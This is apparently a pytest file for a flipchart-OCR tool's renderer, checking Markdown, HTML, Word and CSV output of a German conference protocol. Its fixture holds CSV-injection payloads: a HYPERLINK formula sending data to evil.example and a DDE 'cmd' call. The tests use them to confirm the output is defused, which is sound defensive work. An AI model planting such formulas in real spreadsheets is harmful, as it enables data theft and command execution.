"""render, the protocol people hand out: Word, honest about gaps, safe in spreadsheets.

Every format (Markdown, HTML, Word, CSV) shows the title, the labels, the corrected
text and the sheets left out with why; text nobody checked and words read unsure are
marked in each (in the HTML also on paper: printed to PDF by headless Chromium and
read back with pdftotext); a freeform field's blocks print as heading, cards and
bullets; no CSV cell is a formula to a spreadsheet.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.shared import Mm
from PIL import Image

from flipchart_ocr.render import WORDS
from flipchart_ocr.render.csv import defuse

from .fixtures import add_board, copy_out, run, write

# The reviewer typed one field of IMG_0002 and, in another, what a spreadsheet would
# run: a link that sends data away, a phone number, a handle, a bullet, a DDE call.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"klick")',
    "+49 209 1234",
    "@Quartiersmanagement",
    "Kinder; -Jugendliche",
    " =1+1",
    "- Kitaplätze",
    "=cmd|' /C calc'!A0",
]
HANDOUT = """\
event:
  title: Integrationskonferenz Stadtbezirk Ost
  date: 2019-03-27
sheets:
  IMG_0003:
    skip: true
  IMG_0002:
    fields:
      laeuft_gut:
        text: |
          viele Vereine
          gute Nachbarschaft
      worauf_kommt_es_an:
        text: |
""" + "".join(f"          {line}\n" for line in FORMULAS)

OMITTED = {
    "IMG_0003": "bewusst ausgelassen",
    "IMG_0004": "Foto nicht lesbar (photos/IMG_0004.jpg: truncated image)",
    "IMG_0005": "Ergebnisdatei des Fotos nicht lesbar (IMG_0005.json: not a readable JSON file",
}


@pytest.fixture()
def handout(tmp_path: Path) -> Path:
    """A protocol with every kind of gap: a skipped sheet, an unreadable photo, a corrupt
    sheet JSON; checked and unchecked fields; the hand-made pinboard with its blocks."""
    out = copy_out(tmp_path)
    add_board(out)
    (out / "IMG_0005.json").write_text('{"id": "IMG_0005", "source": ', encoding="utf-8")
    corrections = write(tmp_path / "corrections" / "event.yaml", HANDOUT)
    path = tmp_path / "protocol.json"
    code, _, err = run("merge", out, "-c", corrections, "-o", path)
    assert code == 1 and "IMG_0005.json: not a readable JSON file" in err  # the rest merged
    return path


def render_file(protocol: Path, name: str, *extra: str) -> tuple[Path, str]:
    output = protocol.parent / name
    code, _, err = run("render", protocol, "-o", output, *extra)
    assert code == 0, err
    return output, err


def plain_text(path: Path) -> str:
    """What a reader of the document sees, as text, whatever the format."""
    if path.suffix == ".docx":
        return "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".html":
        body = text[text.index("<body>") :]
        return html.unescape(re.sub(r"<[^>]+>", "", re.sub(r"<br>", "\n", body)))
    if path.suffix == ".md":
        text = text.replace("**", "").replace("\\\n", "\n")
        return re.sub(r"\\(.)", r"\1", text)
    return text


def protocol_fields(protocol: Path) -> list[dict[str, Any]]:
    document = json.loads(protocol.read_text(encoding="utf-8"))
    return [f for s in document["sheets"] for f in s["fields"]]


# -- every format: title, labels, corrected text, the sheets left out -------------------


@pytest.mark.parametrize("suffix", ["md", "html", "docx"])
def test_every_document_shows_title_labels_corrected_text_and_gaps(
    handout: Path, suffix: str
) -> None:
    text = plain_text(render_file(handout, f"p.{suffix}")[0])
    assert "Integrationskonferenz Stadtbezirk Ost" in text and "27. März 2019" in text
    assert "Was läuft gut bei uns im Stadtbezirk..." in text
    assert "viele Vereine\ngute Nachbarschaft" in text and "Nnchbarschaft" not in text
    assert FORMULAS[0] in text  # a document shows people's text as written
    assert f"{WORDS['omitted']} (3)" in text
    for sheet_id, why in OMITTED.items():
        assert f"{sheet_id}: {why}" in text
    # the list comes before the first sheet, where nobody misses it
    assert text.index(WORDS["omitted"]) < text.index("Was läuft gut")


def test_the_csv_shows_title_labels_corrected_text_and_gaps(handout: Path) -> None:
    rows = csv_rows(render_file(handout, "p.csv")[0])
    assert {r["event"] for r in rows} == {"Integrationskonferenz Stadtbezirk Ost"}
    typed = [r for r in rows if r["sheet"] == "IMG_0002" and r["field"] == "laeuft_gut"]
    assert [r["text"] for r in typed] == ["viele Vereine", "gute Nachbarschaft"]
    assert typed[0]["label"] == "Was läuft gut bei uns im Stadtbezirk..."
    left_out = {r["sheet"]: r["omitted"] for r in rows if r["omitted"]}
    assert left_out["IMG_0003"].startswith("skip: ") and "event.yaml" in left_out["IMG_0003"]
    assert left_out["IMG_0004"] == "unreadable: photos/IMG_0004.jpg: truncated image"
    assert left_out["IMG_0005"].startswith("corrupt: IMG_0005.json: not a readable JSON file")
    assert all(r["text"] == "" for r in rows if r["omitted"])


# -- unchecked text and words read unsure: marked, explained ------------------------------


@pytest.mark.parametrize("suffix", ["md", "html", "docx"])
def test_unchecked_text_is_marked_and_the_marks_explained(handout: Path, suffix: str) -> None:
    text = plain_text(render_file(handout, f"p.{suffix}")[0])
    assert WORDS["legend"] in text
    assert text.index(WORDS["legend"]) < text.index("Was läuft gut")
    # one mark per field nobody checked (besides the one in the legend), none on the others
    unchecked = [f for f in protocol_fields(handout) if not f["checked"]]
    assert len(unchecked) == 3
    assert text.count(WORDS["unchecked"]) == len(unchecked) + 1
    assert re.search(r"Wo sehen wir Handlungsbedarfe\.\.\.\W+nicht geprüft", text)
    assert not re.search(r"Was läuft gut bei uns im Stadtbezirk\.\.\.\W+nicht geprüft", text)
    # the words read unsure, in unchecked fields only
    assert "Kinder renovleren[?]" in text and "Reser Mat[?] beleben" in text
    assert text.count("[?]") == 1 + sum(_marked_words(f) for f in unchecked)


def _marked_words(field: dict[str, Any]) -> int:
    doubtful = set(field.get("doubtful", []))
    return sum(word in doubtful for word in field["text"].split())


def test_the_csv_says_what_is_checked_and_what_was_read_unsure(handout: Path) -> None:
    rows = csv_rows(render_file(handout, "p.csv")[0])
    checked = {(r["sheet"], r["field"]): r["checked"] for r in rows if r["sheet"] != "IMG_0005"}
    assert checked[("IMG_0002", "laeuft_gut")] == "yes"
    assert checked[("IMG_0002", "handlungsbedarfe")] == "no"
    assert checked[("IMG_0101", "text")] == "no"
    unsure = {r["text"]: r["doubtful"] for r in rows if r["sheet"] == "IMG_0101"}
    assert unsure["Kinder renovleren"] == "renovleren" and unsure["Mehr Bänke"] == ""


def test_everything_checked_needs_no_legend(handout: Path) -> None:
    document = json.loads(handout.read_text(encoding="utf-8"))
    for field in (f for s in document["sheets"] for f in s["fields"]):
        field["checked"] = True
    handout.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    for suffix in ("md", "html", "docx"):
        text = plain_text(render_file(handout, f"p.{suffix}")[0])
        assert WORDS["unchecked"] not in text and "[?]" not in text, suffix
        assert "Kinder renovleren" in text


# -- a freeform field's blocks ------------------------------------------------------------


def test_blocks_print_as_heading_cards_and_bullets_in_every_format(handout: Path) -> None:
    md = render_file(handout, "p.md")[0].read_text(encoding="utf-8")
    assert (
        "#### Ideen für den Stadtteil\n\nMehr Bänke\\\nam Marktplatz\n\n"
        "Spielplatz für\\\nKinder renovleren\\[?\\]\n\nOpen Space\\\nim Herbst\n\n"
        "\\- Kitaplätze\n\n\\- Sprachcafé im\\\nStadtteilbüro\n"
    ) in md

    page = render_file(handout, "p.html")[0].read_text(encoding="utf-8")
    assert (
        '<h4 class="block">Ideen für den Stadtteil</h4><p>Mehr Bänke<br>am Marktplatz</p>'
    ) in page
    # bullets the writer marked stay as written, hanging
    assert '<p class="item">- Sprachcafé im<br>Stadtteilbüro</p>' in page

    word = docx.Document(str(render_file(handout, "p.docx")[0]))
    texts = [(p.style.name, p.text) for p in word.paragraphs]
    start = texts.index(("Heading 4", "Ideen für den Stadtteil"))
    assert [t for _, t in texts[start : start + 6]] == [
        "Ideen für den Stadtteil",
        "Mehr Bänke\nam Marktplatz",
        "Spielplatz für\nKinder renovleren[?]",
        "Open Space\nim Herbst",
        "- Kitaplätze",
        "- Sprachcafé im\nStadtteilbüro",
    ]
    item = word.paragraphs[start + 5].paragraph_format
    assert item.first_line_indent < 0 < item.left_indent

    rows = [r for r in csv_rows(handout.parent / "x.csv", handout) if r["sheet"] == "IMG_0101"]
    assert [(r["line"], r["block"], r["block_kind"]) for r in rows] == [
        ("1", "1", "heading"),
        ("2", "2", "card"),
        ("3", "2", "card"),
        ("4", "3", "card"),
        ("5", "3", "card"),
        ("6", "4", "card"),
        ("7", "4", "card"),
        ("8", "5", "bullet"),
        ("9", "6", "bullet"),
        ("10", "6", "bullet"),
    ]


def test_a_reviewed_board_keeps_its_blocks_and_bullets_become_a_list(tmp_path: Path) -> None:
    out = copy_out(tmp_path)
    add_board(out)
    paragraphs = [
        "Ideen für den Stadtteil",
        "Mehr Bänke am Marktplatz",
        "Spielplatz für Kinder renovieren",
        "Open Space im Herbst",
        "Kitaplätze",
        "Sprachcafé im Stadtteilbüro",
    ]
    typed = "\n\n".join(paragraphs).replace("\n", "\n          ").replace("          \n", "\n")
    corrections = write(
        tmp_path / "event.yaml",
        f"sheets:\n  IMG_0101:\n    fields:\n      text:\n        text: |\n          {typed}\n",
    )
    protocol = tmp_path / "protocol.json"
    assert run("merge", out, "-c", corrections, "-o", protocol)[0] == 0

    md = render_file(protocol, "p.md")[0].read_text(encoding="utf-8")
    assert "#### Ideen für den Stadtteil\n\nMehr Bänke am Marktplatz\n\n" in md
    assert "\n\n- Kitaplätze\n\n- Sprachcafé im Stadtteilbüro\n" in md
    page = render_file(protocol, "p.html")[0].read_text(encoding="utf-8")
    assert (
        '<ul class="bullets"><li>Kitaplätze</li><li>Sprachcafé im Stadtteilbüro</li></ul>'
    ) in page
    word = docx.Document(str(render_file(protocol, "p.docx")[0]))
    bullets = [p.text for p in word.paragraphs if p.style.name == "List Bullet"]
    assert bullets == [  # the list of sheets left out, then the board's bullets
        "IMG_0004: Foto nicht lesbar (photos/IMG_0004.jpg: truncated image)",
        "Kitaplätze",
        "Sprachcafé im Stadtteilbüro",
    ]
    board = md[md.index("### IMG_0101") :]
    assert WORDS["unchecked"] not in board  # a person typed it


# -- Word ---------------------------------------------------------------------------------


def test_word_file_has_the_headings_and_a_picture_per_sheet_on_a4(handout: Path) -> None:
    path, _ = render_file(handout, "protocol.docx")
    word = docx.Document(str(path))
    page = word.sections[0]
    assert abs(page.page_width - Mm(210)) < Mm(1) and abs(page.page_height - Mm(297)) < Mm(1)
    assert word.core_properties.title == "Integrationskonferenz Stadtbezirk Ost"

    def headed(style: str) -> list[str]:
        return [p.text for p in word.paragraphs if p.style.name == style]

    assert headed("Title") == ["Integrationskonferenz Stadtbezirk Ost"]
    assert headed("Heading 1") == [
        "Nicht im Protokoll (3)",
        "Austausch zu Entwicklungen im Stadtbezirk",
        "Freies Blatt",
    ]
    assert headed("Heading 2") == ["IMG_0002", "IMG_0001", "IMG_0101"]
    assert headed("Heading 3") == [
        "Was läuft gut bei uns im Stadtbezirk...",
        "Wo sehen wir Handlungsbedarfe... [nicht geprüft]",
        "Worauf kommt es bei der weiteren Integrationsarbeit besonders an...",
    ]
    # each sheet's heading is followed by its picture, which fits the A4 text area
    for index, paragraph in enumerate(word.paragraphs):
        if paragraph.style.name == "Heading 2":
            assert word.paragraphs[index + 1]._p.xpath(".//pic:pic"), paragraph.text
    shapes = word.inline_shapes
    assert len(shapes) == 3
    margins = page.left_margin + page.right_margin
    for shape in shapes:
        assert shape.width <= page.page_width - margins and shape.height <= Mm(121)
    pictures = [Image.open(io.BytesIO(part.blob)) for part in _image_parts(word)]
    assert sorted(p.size for p in pictures) == [(336, 480), (336, 480), (720, 480)]
    assert shapes[2].width > shapes[2].height  # the landscape board stays landscape


def _image_parts(word: Any) -> list[Any]:
    return [rel.target_part for rel in word.part.rels.values() if "image" in rel.reltype]


def test_word_file_shows_a_placeholder_for_a_missing_picture(handout: Path) -> None:
    (handout.parent / "out" / "IMG_0001.sheet.jpg").unlink()
    path, err = render_file(handout, "protocol.docx")
    assert "IMG_0001: sheet image" in err and "not found" in err
    word = docx.Document(str(path))
    assert len(word.inline_shapes) == 2
    assert f"{WORDS['photo_missing']} (Foto IMG_0001)" in plain_text(path)


# -- CSV: nothing a spreadsheet would run ---------------------------------------------------

# What Excel and LibreOffice take for a formula: a cell whose first character, after
# spaces, is one of = + - @ (or their full-width forms), or that starts with a tab or
# a line break (OWASP, "CSV Injection").
_RUNS = re.compile(r"^[ \u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


def would_run(cell: str) -> bool:
    return _RUNS.match(cell) is not None


def csv_rows(path: Path, protocol: Path | None = None, *extra: str) -> list[dict[str, str]]:
    if protocol is not None:
        render_file(protocol, path.name, *extra)
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_csv_cell_is_a_formula(handout: Path) -> None:
    path, _ = render_file(handout, "p.csv")
    text = path.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) > 500
    assert [c for c in cells if would_run(c)] == []
    # Excel in a German locale splits at ";" and ignores our ","
    german = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert [c for c in german if would_run(c)] == []

    rows = csv_rows(path)
    typed = [r["text"] for r in rows if r["field"] == "worauf_kommt_es_an" and r["origin"]]
    assert typed[: len(FORMULAS)] == [
        '\'=HYPERLINK("http://evil.example/?d="&A1;"klick")',
        "'+49 209 1234",
        "'@Quartiersmanagement",
        "Kinder; '-Jugendliche",
        "' =1+1",
        "'- Kitaplätze",
        "'=cmd|' /C calc'!A0",
    ]
    # what OCR read is guarded the same way: the board's handwritten bullets
    board = [r["text"] for r in rows if r["sheet"] == "IMG_0101" and r["block_kind"] == "bullet"]
    assert board == ["'- Kitaplätze", "'- Sprachcafé im", "Stadtteilbüro"]


def test_csv_raw_keeps_every_text_exactly(handout: Path) -> None:
    rows = csv_rows(handout.parent / "raw.csv", handout, "--raw")
    typed = [r["text"] for r in rows if r["field"] == "worauf_kommt_es_an" and r["origin"]]
    assert typed[: len(FORMULAS)] == FORMULAS
    assert sum(would_run(text) for text in typed) == 6  # the test's check does see them


def test_raw_is_for_csv_only(handout: Path) -> None:
    code, _, err = run("render", handout, "-o", handout.parent / "p.html", "--raw")
    assert code == 2 and "--raw is for CSV output" in err
    assert not (handout.parent / "p.html").exists()


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("Kitaplätze", "Kitaplätze"),
        ("10 - 12 Uhr", "10 - 12 Uhr"),
        ("E-Mail: a@b.de", "E-Mail: a@b.de"),
        ("-5 Grad", "'-5 Grad"),
        ("\t=1+1", "'\t'=1+1"),  # a tab may split the cell too
        ("\r=1+1", "'\r'=1+1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("a;=1", "a;'=1"),
        ('a; "@x', "a; \"'@x"),
        ("a\t+1", "a\t'+1"),
        ("erste Zeile\n=2", "erste Zeile\n'=2"),
    ],
)
def test_defuse(cell: str, guarded: str) -> None:
    assert defuse(cell) == guarded
    assert not would_run(defuse(cell))
    assert defuse(cell).replace("'", "") == cell.replace("'", "")  # nothing else changes


# -- the HTML on paper ----------------------------------------------------------------------

CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SETUP_HINT = "run `scripts/setup.sh --dev` (installs chromium and poppler-utils)"


def _tool(*names: str) -> str:
    for name in names:
        found = shutil.which(name)
        if found:
            return found
    pytest.fail(f"{names[0]} is not installed: {SETUP_HINT}")


@pytest.mark.browser
def test_printed_html_shows_the_marks_and_the_sheets_left_out(
    handout: Path, tmp_path: Path
) -> None:
    page, _ = render_file(handout, "protocol.html")
    pdf = tmp_path / "protocol.pdf"
    chromium = _tool("chromium", "chromium-browser", "google-chrome")
    printed = subprocess.run(
        [
            chromium,
            *CHROMIUM_FLAGS,
            f"--user-data-dir={tmp_path / 'chromium-profile'}",
            f"--print-to-pdf={pdf}",
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert pdf.is_file() and pdf.stat().st_size > 10_000, printed.stderr[-2000:]
    pdftotext = _tool("pdftotext")
    text = subprocess.run(
        [pdftotext, str(pdf), "-"], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    words = " ".join(text.split())  # lines wrap where the page ends them
    assert " ".join(WORDS["legend"].split()) in words
    unchecked = [f for f in protocol_fields(handout) if not f["checked"]]
    assert words.count(WORDS["unchecked"]) == len(unchecked) + 1
    assert "renovleren[?]" in words and "Mat[?] beleben" in words
    assert "Nicht im Protokoll (3)" in words
    for sheet_id in OMITTED:
        assert sheet_id in words
    assert "viele Vereine gute Nachbarschaft" in words
